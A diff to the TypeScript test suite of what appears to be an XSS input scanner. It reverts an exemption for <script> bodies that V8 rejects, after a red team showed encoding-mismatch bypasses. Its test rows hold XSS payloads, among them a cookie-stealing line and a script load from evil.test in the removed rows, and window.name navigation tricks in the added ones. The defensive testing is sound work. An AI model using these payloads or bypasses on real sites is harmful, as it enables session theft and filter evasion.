@@ -1073,36 +1073,22 @@ describe('xss: a computed global member called through ?. (session 22)', () => {
   });
 });
 
-// session 22: a bare <script> whose body starts with two names side by side on one line (the first no keyword, the second
-// not in or instanceof) opens a script with a SyntaxError in its first line: a classic script with an early error runs
-// none of its code, and the page's text after the value only extends that script. Checked in V8 (node's vm, as Chromium
-// parses): "tag in my template no longer loads", "tag embeds JavaScript", "in my essay" and "not allowed lol" each throw
-// SyntaxError before running anything. The clean rows (the stand-ins' ordinary sentences) fail on the earlier code; the
-// look-alikes stay blocked: a body that runs (a call, a declaration, an operator, a comment, a line break before the
-// second name), a body too short to hold the pair, a <script> with attributes, and a second tag after the released one.
-describe('xss: a bare <script> whose first line is a SyntaxError (session 22)', () => {
+// session 22: a bare <script> is held whatever its body. A release of bodies that open with two names side by side (a
+// SyntaxError in V8: "<script> tag embeds JavaScript") was tried and reverted after a red team: the scanner reads the body
+// decoded and the browser does not — top&Tab;location=name;var Tab (entities are not decoded inside <script>), top%2520e1;…
+// (an application decodes once: top%20e1 is top % 20e1) and top+top;… (decodeURIComponent keeps '+') are two names to the
+// scanner and running code to V8, which navigated to window.name in each.
+describe('xss: a bare <script> stays a script-tag whatever its body (session 22)', () => {
   const contexts = ['query', 'form', 'json'] as const;
   const asSent = (input: string, context: string) => (context === 'json' ? input : encodeURIComponent(input));
-  const clean = [
-    'After the update, the <script> tag in my template no longer loads', 'The <script> tag embeds JavaScript',
-    'I wrote <script> in my essay about HTML tags', 'I hate when sites say "<script> not allowed" lol', '<SCRIPT> x y',
-  ];
-  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s stays clean', (input, context) => {
-    expect(d.scan(asSent(input, context), { context }).blocked).toBe(false);
-  });
   const hits = [
-    '<script>alert(1)</script>', '<script> alert(1)', '<script>', '<script> tag', 'what is <script> tag',
-    'How do I use <script> tags in HTML?', "<script> new Image().src='//x/'+document.cookie", '<script> var a = 1',
-    '<script> typeof alert', '<script> a in b', '<script>/*a b*/alert(1)', '<script> New Image', '<script> in',
-    '<script> x\ny z', '<script src=//evil.test/x.js> a b', '<script> a b</script><script>alert(1)</script>',
+    '<script>top&Tab;location=name;var Tab//', '<script>top&nbsp;location=name;var nbsp//', '<script>top%20e1;location=name//',
+    '<script>top+top;location=name//', '<script> x y', 'The <script> tag embeds JavaScript',
   ];
   it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a script-tag', (input, context) => {
     const r = d.scan(asSent(input, context), { context });
     expect(ruleIds(r)).toContain('xss.script-tag');
     expect(r.blocked).toBe(true);
-  });
-  it('gives the same findings split anywhere', () => {
-    for (const c of contexts) expectSameWhenSplit(d, [...hits, ...clean].map((h) => asSent(h, c)), c);
   });
 });
 
